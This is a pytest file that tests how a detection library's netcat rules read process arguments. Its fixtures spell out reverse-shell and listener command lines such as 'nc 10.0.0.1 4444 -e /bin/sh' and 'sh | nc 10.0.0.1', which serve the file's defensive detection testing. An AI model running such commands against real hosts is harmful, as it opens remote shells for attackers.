"""The netcat rules over ``process.args`` as its producers write it: a list, a single text, or not at all."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest

import dogwatch
from dogwatch.alerts.model import Alert

FILE_TRANSFER = "adb961e0-cb74-42a0-af9e-29fc41f88f5f"
OLDER = (2, 3, 4, 5)
"""Versions of the Elastic rule that ask nothing of the arguments."""
CURRENT = 110
NOTHING = object()

Scan = Callable[[Iterable[dict[str, Any]]], Iterable[Any]]


def netcat(process: dict[str, Any]) -> list[dict[str, Any]]:
    """A start of netcat and its connection, as Auditbeat and Elastic Defend tell of them."""
    common = {
        "host": {"name": "h", "os": {"type": "linux"}},
        "process": {"name": "nc", "entity_id": "e1", **process},
    }
    start = {"category": ["process"], "type": ["start"], "action": "executed", "id": "1"}
    connection = {"category": ["network"], "type": ["connection", "start"], "action": "connected-to", "id": "2"}
    return [
        {"@timestamp": f"2026-11-22T02:00:0{second}Z", "event": event, **common}
        for second, event in enumerate((start, connection))
    ]


def with_args(value: Any) -> list[dict[str, Any]]:
    return netcat({} if value is NOTHING else {"args": value})


@pytest.fixture(params=["documents", "ndjson", "json"])
def scan(request: pytest.FixtureRequest, tmp_path: Path) -> Scan:
    """Scans with the rules of the library, from memory and from files."""
    rules = dogwatch.load_rules("builtin")

    def scanned(documents: Iterable[dict[str, Any]]) -> Iterable[Any]:
        match request.param:
            case "documents":
                return dogwatch.scan(list(documents), rules)
            case "ndjson":
                text = "".join(json.dumps(each) + "\n" for each in documents)
            case _:
                text = json.dumps(list(documents), indent=1)
        path = tmp_path / "events.json"
        path.write_text(text, encoding="utf-8")
        return dogwatch.scan(path, rules)

    return scanned


def versions(detections: Iterable[Any]) -> list[int]:
    """The versions of the Elastic rule that gave alerts."""
    return sorted(
        each.document["kibana.alert.rule.version"]
        for each in detections
        if isinstance(each, Alert) and each.document["kibana.alert.rule.rule_id"] == FILE_TRANSFER
    )


@pytest.mark.parametrize(
    "args",
    [
        ["nc", "-l", "-p", "4444"],
        ["nc", "-lp", "4444"],
        # Order, repeats and letter case play no part.
        ["4444", "-p", "-p", "nc"],
        ["nc", "-L"],
        # The two flags of a reverse shell, far apart.
        ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"],
        ["/bin/bash", "nc", "10.0.0.1", "-e"],
        ["nc", "10.0.0.1", "4444", ">", "loot"],
        ["sh", "|", "nc", "10.0.0.1"],
        # What else a list may hold.
        ["-l"],
        ["nc", None, 4444, True, "-l"],
        [["nc", "-l"], ["4444"]],
        [f"filler-{number}" for number in range(500)] + ["-l"],
        # A single text is a value like one of a list.
        "-l",
        "-lp",
    ],
)
def test_one_value_suffices(scan: Scan, args: Any) -> None:
    assert versions(scan(with_args(args))) == [*OLDER, CURRENT]


@pytest.mark.parametrize(
    "args",
    [
        ["nc", "10.0.0.1", "4444"],
        # Only whole values count, without wildcards.
        ["nc", "-lvnp", "4444"],
        ["nc", "-l -p"],
        ["nc", " -l"],
        "nc -l -p 4444",
        # One of two flags is not both.
        ["nc", "-e", "/bin/zsh"],
        ["nc", "/bin/sh"],
        "-e",
        # An argument by number or truth is its text.
        [1, False],
        NOTHING,
        None,
        [],
        [None],
        "",
        [""],
        {"0": "-l"},
    ],
)
def test_without_the_flags_only_the_older_versions_match(scan: Scan, args: Any) -> None:
    assert versions(scan(with_args(args))) == list(OLDER)


def test_a_dotted_key_is_the_same_field(scan: Scan) -> None:
    documents = netcat({})
    documents[0]["process.args"] = ["nc", "-l"]
    assert versions(scan(documents)) == [*OLDER, CURRENT]


def test_the_first_event_decides_and_not_the_second(scan: Scan) -> None:
    start, connection = with_args(NOTHING)
    connection["process"] = {**connection["process"], "args": ["nc", "-l"]}
    assert versions(scan([start, connection])) == list(OLDER)


def test_a_fortisiem_rule_takes_the_arguments_after_the_name(scan: Scan) -> None:
    for args, expected in ((["nc", "-l", "4444"], "-l 4444"), ("nc", None), (NOTHING, None)):
        (incident,) = [each for each in scan(with_args(args)) if not isinstance(each, Alert)]
        assert incident.attributes.get("swParam") == expected


def test_the_whole_list_is_in_the_alert(scan: Scan) -> None:
    args = ["nc", "-l", "-p", "4444"]
    (alert,) = [
        each
        for each in scan(with_args(args))
        if isinstance(each, Alert) and each.document["kibana.alert.rule.version"] == CURRENT
    ]
    assert [block.document["process"]["args"] for block in alert.building_blocks] == [args, args]
    assert alert.document["process"]["args"] == args
